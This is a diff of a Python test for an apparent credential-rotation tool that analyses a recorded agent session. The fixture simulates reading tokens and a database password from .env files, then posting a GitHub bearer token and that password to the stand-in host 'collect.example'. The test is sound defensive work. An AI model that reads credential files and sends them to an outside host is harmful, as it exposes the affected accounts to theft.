@@ -195,12 +195,16 @@ def test_what_went_to_a_stranger_is_rotated_first_and_what_expires_last(tmp_path
     flight = Flight()
     flight.tool(1.0, "Bash", {"command": "cat k"}, {"stdout": f"AWS_ACCESS_KEY_ID={TEMPORARY}"})
     flight.read(2.0, "a/.env", f"RAILWAY_API_TOKEN={ACCOUNT_TOKEN}", f"GH_TOKEN={GITHUB}")
+    flight.read(2.5, "a/db.env", f"URL=postgres://app:{PASSWORD}@db/prod")
     flight.request(
-        3.0, headers={"authorization": f"Bearer {GITHUB}"}, host="collect.example", port=443
-    )
+        3.0, "POST", headers={"authorization": f"Bearer {GITHUB}"}, host="collect.example",
+        port=443, body=f"postgres://app:{PASSWORD}@db/prod",
+    )  # fmt: skip
     answers = answered(tmp_path, flight)
-    first, middle, last = (r.statement for r in answers.rotate)
+    first, second, middle, last = (r.statement for r in answers.rotate)
     assert "collect.example" in first.text
+    assert "collect.example" in second.text
+    assert {first.text.split(":")[0], second.text.split(":")[0]} == {"github-pat", "url-password"}
     assert first.certainty is Certainty.INFERRED
     assert middle.text.startswith("railway-api-token")
     assert "IAM session, expires by itself" in last.text
